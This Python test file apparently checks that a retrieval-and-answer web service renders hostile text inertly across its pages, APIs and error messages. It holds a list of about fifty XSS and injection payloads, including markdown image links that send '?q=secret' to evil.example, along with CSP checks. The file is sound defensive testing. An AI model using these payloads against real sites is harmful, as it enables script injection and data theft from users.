"""Texts that were a script if they were ever read as HTML: in titles, names, questions, passages and answers."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from rag.access import EVERYONE, Acl, Confidentiality
from rag.answers import AnswerEvent, Found, Outcome, Passage
from rag.documents import DocumentId, DocumentRef
from tests.doors.http.conftest import served
from tests.doors.http.house import House, Paper, cited, done, ending, sentence

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`//",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png?q=secret)",
    "[ref]: https://evil.example/?q=secret\n![x][ref]",
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}{{ 7*7 }}",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]>\"><script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |",
    "# <img src=x onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "a\nevent: done\ndata: {\"text\": \"<img src=x onerror=alert(1)>\"}\n\n",
)  # fmt: skip


BREAKOUTS = ('">', "'>", "--></textarea>", "]]>&#x22;>")
STRINGS = (
    *HOSTILE,
    *(opening + text for opening in BREAKOUTS for text in HOSTILE[:38]),
    *(re.sub(r"<(/?\w)", lambda tag: tag.group().swapcase(), text) for text in HOSTILE[:20]),
)
"""At least two hundred: each on its own, behind what ends an attribute or a comment, and with the tag written big."""


def papers() -> list[Paper]:
    return [
        Paper(
            key=f"{number:024d}", title=text, name=f"{number}-{text}", headings=(text, f"§ {text}"),
            text=f"Vorher {text}\n{text}\nNachher", found=text,
        )
        for number, text in enumerate(STRINGS)
    ]  # fmt: skip


def hostile(question: str, passages: Sequence[Passage]) -> Iterator[AnswerEvent]:
    yield Found(passages=tuple(passages), evidence=0.9)
    said = [
        sentence(text, cited(passage, n)) for n, (text, passage) in enumerate(zip(STRINGS, passages, strict=True), 1)
    ]
    said += [sentence(text) for text in STRINGS]
    yield from said
    yield done(question, passages, said, Outcome.INCOMPLETE)


@pytest.fixture
def hostile_house(tmp_path: Path) -> Iterator[House]:
    opened = House(home=tmp_path, papers=papers(), script=hostile)
    yield opened
    opened.close()


class Watched:
    """A page, the dialogs it opened and the addresses it asked for. `refused` is the status of all it asks for, which
    Chromium tells of itself each time."""

    def __init__(self, page: Any, *, refused: int = 0) -> None:
        own = f"Failed to load resource: the server responded with a status of {refused} "
        self.page, self.dialogs, self.asked, self.said = page, list[str](), list[str](), list[str]()
        page.set_default_timeout(30_000)
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("console", lambda message: message.text.startswith(own) or self.said.append(message.text))
        page.on("pageerror", lambda error: self.said.append(str(error)))

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def elements(self, selector: str) -> int:
        return int(self.page.locator(selector).count())

    def nothing_happened(self, address: str) -> None:
        """Nothing ran, nothing was asked of elsewhere, and no text has become an element."""
        page = ":is(main, #panel, #confirm)"
        for tag in ("img", "script", "iframe", "style", "object", "embed", "base", "link", "meta", "video", "math"):
            assert self.elements(f"{page} {tag}") == 0, tag
        assert self.elements(f"{page} svg :not(path, rect, circle, text)") == 0
        assert self.elements(f"{page} :is(a[href]:not([href^='/']), form[action], svg[onload], marquee)") == 0
        attributes = "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes]).map((a) => a.name)"
        assert [name for name in self.page.evaluate(attributes) if name.startswith("on")] == []
        assert self.dialogs == []
        assert self.said == []
        assert [url for url in self.asked if not url.startswith(address + "/")] == []


OPEN_EACH = """async (selector) => {
  const patience = Date.now() + 60000;
  const panel = document.getElementById("panel");
  const titles = [];
  for (const one of document.querySelectorAll(selector)) {
    panel.querySelector(".page:not(.picture)").replaceChildren();
    one.click();
    while (!panel.querySelector("#panel-text > *") && Date.now() < patience) {
      await new Promise((next) => setTimeout(next, 5));
    }
    if (Date.now() >= patience) throw new Error(`nothing opens: ${one.textContent}`);
    titles.push(document.getElementById("panel-title").textContent);
  }
  return titles;
}"""


def test_there_are_two_hundred_of_them() -> None:
    assert len(set(STRINGS)) >= 200


def test_no_text_is_ever_run_or_followed(hostile_house: House, browser: Any) -> None:
    with served(hostile_house) as address:
        context = browser.new_context(locale="de")
        watched = Watched(page := context.new_page())
        page.goto(address)
        for start in range(0, len(STRINGS), 70):
            last = start + 70 >= len(STRINGS)
            hostile_house.script = hostile if last else ending(Outcome.NOTHING_FOUND)
            page.fill("#question", " ".join(STRINGS[start : start + 70])[:2000])
            page.keyboard.press("Enter")
            page.wait_for_selector(".answer:first-child[data-step=done]")
        shown = [re.sub(r"^\| (.*) \| b \|$", r"\1 · b", text) for text in STRINGS]  # a row of a table
        assert page.locator(".answer:first-child .words").all_text_contents() == [*shown, *shown]
        assert page.evaluate(OPEN_EACH, ".answer:first-child .cite") == list(STRINGS)
        watched.nothing_happened(address)
        page.reload()  # what was asked is in the browser now
        page.click("#history summary")
        assert page.locator(".past").count() >= 3
        watched.nothing_happened(address)
        context.close()


def test_no_title_path_source_or_reason_on_the_list_of_documents_is_run(hostile_house: House, browser: Any) -> None:
    for number, text in enumerate(STRINGS[:60]):
        one = {"key": f"f{number:023d}", "title": text, "name": f"{number}-{text}", "text": text, "found": text}
        hostile_house.add(Paper(**one), source=re.sub(r"[:/!]", "", text)[:60] or "x")
        _failed(hostile_house, number, text)
    with served(hostile_house) as address:
        context = browser.new_context(locale="en")
        watched = Watched(page := context.new_page())
        page.goto(address + '/documents?text=<img src=x onerror=alert(1)>&source="><svg onload=alert(1)>&state=<b>')
        page.wait_for_selector("#unmatched:visible")
        watched.nothing_happened(address)
        page.goto(address + "/documents")
        seen = set()
        while True:
            page.wait_for_selector("#list tbody tr")
            page.evaluate(OPEN_EACH, "#list button.title")
            seen |= set(page.locator("#list .title").all_text_contents())
            page.evaluate("document.getElementById('panel-close').click()")
            if page.is_disabled("#after"):
                break
            place = page.inner_text("#place")
            page.click("#after")
            page.wait_for_function("(before) => document.getElementById('place').textContent !== before", arg=place)
        assert seen == set(STRINGS)
        watched.nothing_happened(address)
        context.close()


def test_no_source_model_or_reason_on_the_status_page_is_run(hostile_house: House, browser: Any) -> None:
    with served(hostile_house) as address:
        context = browser.new_context(locale="de")
        watched = Watched(page := context.new_page())
        page.route("**/api/status", lambda route: route.fulfill(json=_status()))
        page.route("**/api/recent", lambda route: route.fulfill(json=_recent()))
        page.goto(address + "/status")
        page.wait_for_selector("#sources tbody tr")
        assert page.locator("#sources .title").all_text_contents() == list(STRINGS)
        assert page.locator("#failures-list .title").all_text_contents() == list(STRINGS)
        for number in (0, 5, 20):
            page.locator("#held-list button").nth(number).click()
            assert STRINGS[number] in page.inner_text("#confirm-says")
            page.click("#confirm-no")
        watched.nothing_happened(address)
        context.close()


def test_no_problem_the_service_tells_of_is_run(hostile_house: House, browser: Any) -> None:
    with served(hostile_house) as address:
        context = browser.new_context(locale="de")
        watched = Watched(page := context.new_page(), refused=400)
        told = " ".join(STRINGS)
        page.route("**/api/*", lambda route: route.fulfill(status=400, json={"title": told, "detail": told}))
        for path in ("/documents", "/status"):
            page.goto(address + path)
            page.wait_for_selector("#fault:visible")
            assert STRINGS[-1] in page.locator("#fault").text_content()
            watched.nothing_happened(address)
        context.close()


def _failed(house: House, number: int, text: str) -> None:
    name = DocumentId(f"house:gescheitert-{number}-{text}")
    acl = Acl(readers=frozenset({EVERYONE}))
    ref = DocumentRef(id=name, key=f"e{number:023d}", version="1", acl=acl, confidentiality=Confidentiality.INTERNAL)
    made = {"reason": text, "stamp": "s", "recipe": "r", "title": text, "uri": f"file:///{text}"}
    house.ledger.record_failure(ref, **made, media_type="text/plain", modified_at=datetime(2024, 3, 12, tzinfo=UTC))


def _status() -> dict[str, Any]:
    source = {"documents": 9, "failed": 1, "reached_at": None, "offline_since": "2026-01-01T00:00:00Z", "held": 3}
    text = " ".join(HOSTILE)
    return {
        "model": {"name": text, "digest": text, "licence": text, "runtime": text, "problem": None},
        "embedder": {"model": text, "licence": text, "problem": text, "coming": text, "embedded": 1, "texts": 2},
        "index": {"documents": 1, "failed": 1, "chunks": 1},
        "queue": None,
        "sources": [{**source, "name": one, "path": one, "problem": one, "watched": "events"} for one in STRINGS],
        "failures": [{"kind": one, "said": one, "advice": one, "documents": 1} for one in STRINGS],
        "guard": {"guard": True, "active": True, "stopped_in_python": 0, "stopped_by_kernel": 0, "endpoints": [text]},
    }


def _recent() -> dict[str, Any]:
    quantiles = {"p50": 1.0, "p95": 2.0}
    hour = {"began": "2026-01-01T00:00:00Z", "outcomes": dict.fromkeys(STRINGS, 3)}
    return {"since": STRINGS[0], "hours": [{**hour, "total_s": quantiles, "found_s": quantiles}] * 24}


def test_the_hook_would_see_a_script_that_ran(hostile_house: House, browser: Any) -> None:
    with served(hostile_house) as address:
        context = browser.new_context()
        watched = Watched(page := context.new_page())
        page.goto(address)
        page.evaluate("alert('seen')")
        assert watched.dialogs == ["seen"]
        context.close()


def test_the_policy_stops_a_script_even_if_a_text_were_read_as_html(hostile_house: House, browser: Any) -> None:
    playwright = pytest.importorskip("playwright.sync_api")
    with served(hostile_house) as address:
        context = browser.new_context()
        watched = Watched(page := context.new_page())
        page.goto(address)
        for attempt in (
            "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
            "document.body.setAttribute('onclick', 'alert(1)')",
            "document.body.append(Object.assign(document.createElement('script'), {text: 'alert(1)'}))",
        ):
            with pytest.raises(playwright.Error, match="Trusted"):
                page.evaluate(attempt)
        page.evaluate("document.body.append(Object.assign(document.createElement('img'), {src: '//evil.example/x'}))")
        assert watched.dialogs == []
        page.wait_for_function("document.querySelector('img[src*=evil]').complete")
        assert any("Content Security Policy" in said for said in watched.said)
        context.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_the_language_a_browser_asks_for_is_never_repeated(client: Any, text: str) -> None:
    clean = text.encode("ascii", "ignore").decode().replace("\n", " ")
    response = client.get("/", params={"lang": text}, headers={"accept-language": clean, "cookie": f"a={clean}"})
    assert response.status_code == 200
    assert "alert(1)" not in response.text
    assert "evil.example" not in response.text
